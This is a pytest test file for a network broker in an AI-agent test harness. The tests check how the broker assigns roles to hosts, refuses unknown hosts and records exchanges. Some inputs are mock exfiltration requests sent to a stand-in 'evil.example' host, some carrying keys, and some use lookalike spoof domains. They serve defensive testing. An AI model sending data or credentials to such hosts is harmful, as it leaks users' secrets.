"""The broker: who a host is, who answers, what is refused, and that nothing goes unrecorded."""

from __future__ import annotations

from concurrent.futures import ThreadPoolExecutor

import pytest
from wire_support import chat, json_of, request, response

from offwire_harness.broker import CONTROL_HOST, Broker
from offwire_harness.models import say
from offwire_harness.vaults import DenyShVault
from offwire_harness.wire import Role

WIRES = ("embeddings", "files", "assistants", "threads/x/runs", "moderations", "responses", "audio/speech")


@pytest.mark.parametrize(
    ("url", "role"),
    [
        ("https://api.openai.com/v1/chat/completions", Role.MODEL),
        ("https://contoso.openai.azure.com/openai/deployments/x/chat/completions", Role.MODEL),
        ("https://api.anthropic.com/v1/messages", Role.MODEL),
        ("https://generativelanguage.googleapis.com/v1beta/openai/chat/completions", Role.MODEL),
        ("https://europe-west1-aiplatform.googleapis.com/v1/x", Role.MODEL),
        ("https://bedrock-runtime.eu-central-1.amazonaws.com/model/x/invoke", Role.MODEL),
        ("https://api.mistral.ai/v1/chat/completions", Role.MODEL),
        ("https://api.groq.com/openai/v1/chat/completions", Role.MODEL),
        ("https://openrouter.ai/api/v1/chat/completions", Role.MODEL),
        ("http://localhost:11434/v1/chat/completions", Role.MODEL),
        ("http://localhost:11434/secrets", Role.UNKNOWN),
        ("http://localhost:8000/v1/models", Role.MODEL),
        ("http://localhost:8000/v1/embeddings", Role.MODEL),
        ("http://localhost:8000/v1/completions", Role.MODEL),
        ("http://localhost:1234/v1/models", Role.MODEL),
        ("http://localhost:8080/v1/completions", Role.MODEL),
        ("http://127.0.0.1:11434/api/chat", Role.MODEL),
        ("http://[::1]:11434/api/generate", Role.MODEL),
        ("http://host.docker.internal:11434/api/chat", Role.MODEL),
        ("http://192.0.2.1:11434/api/chat", Role.UNKNOWN),
        ("http://localhost:5432/v1/chat/completions", Role.MODEL),
        ("http://localhost:5432/v1/responses", Role.MODEL),
        ("http://localhost:5432/v1/messages", Role.MODEL),
        ("http://localhost:5432/v1/embeddings", Role.MODEL),
        ("http://localhost:5432/v1/completions", Role.UNKNOWN),
        ("https://contoso.cognitiveservices.azure.com/openai/x", Role.MODEL),
        ("https://aiplatform.googleapis.com/v1/x", Role.MODEL),
        ("https://API.OpenAI.com./v1/chat/completions", Role.MODEL),
        ("https://bedrock-runtime.amazonaws.com/model/x/invoke", Role.UNKNOWN),
        ("http://127.0.0.1:5432/api/generate", Role.MODEL),
        ("http://localhost:5432/v1/models", Role.UNKNOWN),
        *((f"https://api.openai.com/v1/{path}", Role.MODEL) for path in WIRES),
        ("https://bedrock-agent-runtime.eu-west-1.amazonaws.com/agents/x", Role.MODEL),
        ("https://api.openai.com.evil.example/v1/chat/completions", Role.UNKNOWN),
        ("https://evilapi.openai.com.example/", Role.UNKNOWN),
        (f"https://{CONTROL_HOST}/", Role.CONTROL),
        ("https://api.stripe.com/v1/x", Role.UPSTREAM),
        ("https://deny.sh/api/vault/list", Role.VAULT),
        ("https://deny.sh/pricing", Role.UNKNOWN),
        ("https://gateway.corp.example/v1/chat/completions", Role.MODEL),
    ],
)
def test_a_host_has_one_role(url: str, role: Role) -> None:
    broker = Broker()
    broker.upstream("https://api.stripe.com")
    broker.add_vault(DenyShVault("key"))
    broker.add_model_host("gateway.corp.example")
    assert broker.role_of(request(url)) is role


def test_what_the_test_declares_comes_before_what_is_known() -> None:
    broker = Broker()
    broker.upstream("https://api.openai.com").get("/v1/files").json({"data": []})
    assert broker.role_of(request("https://api.openai.com/v1/files")) is Role.UPSTREAM


def test_an_unknown_host_is_refused_recorded_and_named() -> None:
    broker = Broker()
    refused = response(broker.answer(request("https://evil.example/collect?q=1", method="POST", body="x")))
    assert refused.status == 501
    assert broker.refused == (
        "POST https://evil.example goes to a host that the test does not know; "
        "declare it with offwire.upstream('https://evil.example')",
    )
    (exchange,) = broker.exchanges
    assert exchange.role is Role.UNKNOWN
    assert exchange.request.body == b"x"


def test_a_request_that_fits_no_route_is_refused_and_recorded() -> None:
    broker = Broker()
    broker.upstream("https://api.stripe.com").get("/v1/invoices/{id}").json({})
    broker.answer(request("https://api.stripe.com/v1/charges"))
    assert "which answers GET /v1/invoices/{id}" in broker.refused[0]


def test_refusals_never_repeat_what_the_agent_sent() -> None:
    broker = Broker()
    answer = response(
        broker.answer(request("https://evil.example/?key=k-123", headers={"authorization": "k-456"}))
    )
    assert not any(
        secret in text for secret in ("k-123", "k-456") for text in (*broker.refused, answer.body.decode())
    )


def test_a_run_begins_afresh_with_everything_as_it_was_set_up() -> None:
    broker = Broker()
    broker.model.script(say("hello"))
    api = broker.upstream("https://api.stripe.com")
    api.get("/x").json({"n": 1}).json({"n": 2})
    for _ in range(2):
        broker.begin()
        assert json_of(broker.answer(request("https://api.stripe.com/x"))) == {"n": 1}
        assert response(broker.answer(chat({"role": "user", "content": "hi"}))).status == 200
        assert len(broker.exchanges) == 2
        assert len(api.calls) == 1
    assert broker.upstream("https://api.stripe.com/") is api


def test_a_test_begins_with_nothing() -> None:
    broker = Broker()
    broker.upstream("https://api.stripe.com").get("/x").json({})
    broker.model.script(say("left over"))
    broker.add_vault(DenyShVault("key"))
    broker.add_model_host("gateway.corp.example")
    broker.clear()
    for url in ("https://gateway.corp.example/v1/chat/completions", "https://deny.sh/api/vault/list"):
        assert broker.role_of(request(url)) is Role.UNKNOWN
    assert broker.upstreams == ()
    assert broker.model.left == ()
    assert broker.role_of(request("https://api.stripe.com/x")) is Role.UNKNOWN


def test_every_exchange_of_many_threads_is_recorded_once() -> None:
    broker = Broker()
    broker.upstream("https://api.stripe.com").get("/x/{n}").respond(lambda call: call.parameters["n"])
    with ThreadPoolExecutor(8) as pool:
        answers = pool.map(lambda n: broker.answer(request(f"https://api.stripe.com/x/{n}")), range(200))
        assert sorted(int(response(each).body) for each in answers) == list(range(200))
    assert len(broker.exchanges) == 200
